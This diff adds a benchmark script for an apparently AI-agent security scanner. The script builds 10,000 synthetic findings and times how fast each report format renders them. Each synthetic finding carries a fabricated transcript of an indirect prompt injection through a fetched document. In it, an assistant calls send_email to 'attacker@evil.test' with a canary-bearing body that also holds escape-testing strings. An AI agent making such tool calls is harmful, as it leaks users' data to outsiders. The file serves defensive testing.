@@ -1,0 +1,206 @@
+"""Render time of every output format for a 10,000-finding synthetic scan (target: < 3 s).
+
+The scan is built in memory (no engine, no target): ten thousand findings spread over the ten
+ASI categories and four severities, each with a three-turn transcript, a tool call and two
+pieces of evidence, which is heavier per finding than a real scan. Building it is not timed;
+each emitter's ``render`` is, once per format, as ``probegate scan --output ...`` calls them.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import time
+
+from probegate.models.report import (
+    Authority,
+    Budget,
+    Completeness,
+    Engine,
+    Finding,
+    ProbeResult,
+    ScanReport,
+    SourceLocation,
+    TargetInfo,
+    UnjudgedAttempt,
+)
+from probegate.models.taxonomy import ASI_IDS, Severity
+from probegate.models.transcript import ToolCall, Transcript, Turn
+from probegate.models.verdict import Evidence
+from probegate.reports import FORMATS
+
+FINDINGS = 10_000
+TARGET_SECONDS = 3.0
+_SEVERITIES = (Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW)
+
+
+def synthetic_report(count: int = FINDINGS) -> ScanReport:
+    """A valid scan report with ``count`` findings (one per probe, as in real scans)."""
+    findings: list[Finding] = []
+    results: list[ProbeResult] = []
+    summary = {s.value: 0 for s in Severity}
+    for i in range(count):
+        asi = ASI_IDS[i % len(ASI_IDS)]
+        severity = _SEVERITIES[i % len(_SEVERITIES)]
+        summary[severity.value] += 1
+        probe_id = f"{asi.lower()}.bench-{i:05d}.v1"
+        fp = hashlib.sha256(f"finding:v1:{probe_id}".encode()).hexdigest()[:32]
+        body = f"Customer record {i}: PG-CANARY-{i:06d} | <b>notes</b> ]]> \x1b[31m::warning::"
+        transcript = Transcript(
+            turns=[
+                Turn(role="user", content=f"Please summarise https://docs.example.test/{i}.txt"),
+                Turn(
+                    role="assistant",
+                    content=f"Sure. I read the document and will forward it as asked ({i}).",
+                    tool_calls=[
+                        ToolCall(
+                            id=f"call_{i}",
+                            name="send_email",
+                            arguments={"to": "attacker@evil.test", "body": body},
+                            result="sent",
+                        )
+                    ],
+                ),
+                Turn(role="assistant", content="Done: the summary was emailed."),
+            ],
+            tools_offered=["send_email", "fetch_document", "lookup_customer"],
+        )
+        canary_start = body.index("PG-CANARY")
+        evidence = [
+            Evidence(
+                category="security.data_exfiltration",
+                severity=severity,
+                path="turns.1.tool_calls.0.arguments.body",
+                start=canary_start,
+                end=canary_start + 16,
+                score=1.0,
+                fp=hashlib.sha256(f"ev:{probe_id}:0".encode()).hexdigest()[:32],
+                subject=body[canary_start : canary_start + 16],
+                detector="canary_leak:plain",
+            ),
+            Evidence(
+                category="security.data_exfiltration",
+                severity=severity,
+                path="turns.1.tool_calls.0.arguments.to",
+                start=9,
+                end=18,
+                score=0.9,
+                fp=hashlib.sha256(f"ev:{probe_id}:1".encode()).hexdigest()[:32],
+                subject="evil.test",
+                detector="tool_call:args",
+            ),
+        ]
+        findings.append(
+            Finding(
+                id=f"F-{fp[:12]}",
+                probe_id=probe_id,
+                asi=asi,
+                mitre_atlas=["AML.T0051.001", "AML.T0086"],
+                csa_category="agent-goal-and-instruction-manipulation",
+                severity=severity,
+                attempt_count=3,
+                success=True,
+                confidence=0.95,
+                summary=f"Bench probe {i} made the agent email a canary to evil.test",
+                trigger_prompt=f"Please summarise https://docs.example.test/{i}.txt",
+                pov_reference=f"pov/{probe_id}.sh",
+                pov_reliability=0.4385,
+                created_at="2026-01-01T00:00:00Z",
+                fp=fp,
+                name=f"Bench probe {i}: indirect injection via a fetched document",
+                owasp_llm=["LLM01", "LLM02"],
+                channel="document",
+                successes=2,
+                aivss_severity=round(9.8 - (i % 4) * 2.1, 1),
+                remediation="Treat fetched documents as data; allowlist email recipients.",
+                evidence=evidence,
+                location=SourceLocation(path="agents/support/probegate.yml", line=12),
+                transcript=transcript,
+            )
+        )
+        results.append(
+            ProbeResult(
+                probe_id=probe_id,
+                name=f"Bench probe {i}",
+                asi=asi,
+                severity=severity,
+                channel="document",
+                outcome="vulnerable",
+                attempts=3,
+                vulnerable=2,
+                resisted=1,
+            )
+        )
+    unjudged = [
+        UnjudgedAttempt(attempt_id=f"a-{i}", probe_id=f"asi0{i % 9 + 1}.x.v1", reason="timeout")
+        for i in range(100)
+    ]
+    return ScanReport(
+        aivss=12,
+        aivss_formula_version="probegate-aivss-1.0",
+        asi_scores={a: float(10 * i) for i, a in enumerate(ASI_IDS)},
+        band="CRITICAL",
+        budget=Budget(),
+        completeness=Completeness(
+            agents_planned=count * 3,
+            agents_completed=count * 3,
+            agents_cut_short=0,
+            turns_used=count * 3,
+            turns_planned=count * 3,
+            pct=100.0,
+        ),
+        coverage={"attempts_planned": count * 3},
+        coverage_grade="A",
+        created_at="2026-01-01T00:00:00Z",
+        duration_seconds=3600.0,
+        engine=Engine(),
+        evaluation_mode="real",
+        findings=findings,
+        findings_summary=summary,
+        mode="full",
+        mode_authoritative=True,
+        package_version="0.1.0",
+        probe_library_version="bench",
+        scan_id="pg-bench000001",
+        scoring_valid=True,
+        stopped_reason="completed",
+        sub_scores={"asi_mean": 45.0},
+        target=TargetInfo(
+            mode="openai",
+            ref="http://127.0.0.1:8000/v1",
+            definition=SourceLocation(path="agents/support/probegate.yml", line=1),
+        ),
+        tier="T4",
+        tokens_total=0,
+        undertested=["ASI08"],
+        authority=Authority(authoritative=False, failed=["undertested"], reasons=["ASI08"]),
+        results=results,
+        unjudged=unjudged,
+        not_applicable=[],
+        seed=0,
+    )
+
+
+def time_formats(report: ScanReport) -> dict[str, tuple[float, int]]:
+    """Seconds and bytes per format, rendering each once."""
+    figures: dict[str, tuple[float, int]] = {}
+    for name, fmt in FORMATS.items():
+        start = time.perf_counter()
+        data = fmt.render(report)
+        figures[name] = (time.perf_counter() - start, len(data))
+    return figures
+
+
+def main() -> None:
+    start = time.perf_counter()
+    report = synthetic_report()
+    print(f"built a {FINDINGS}-finding synthetic scan in {time.perf_counter() - start:.2f} s")
+    figures = time_formats(report)
+    for name, (seconds, size) in figures.items():
+        print(f"  {name:6} {seconds:6.2f} s  {size / 1e6:7.2f} MB")
+    total = sum(seconds for seconds, _ in figures.values())
+    verdict = "ok" if total < TARGET_SECONDS else "OVER TARGET"
+    print(f"all formats: {total:.2f} s (target < {TARGET_SECONDS:.0f} s): {verdict}")
+
+
+if __name__ == "__main__":
+    main()
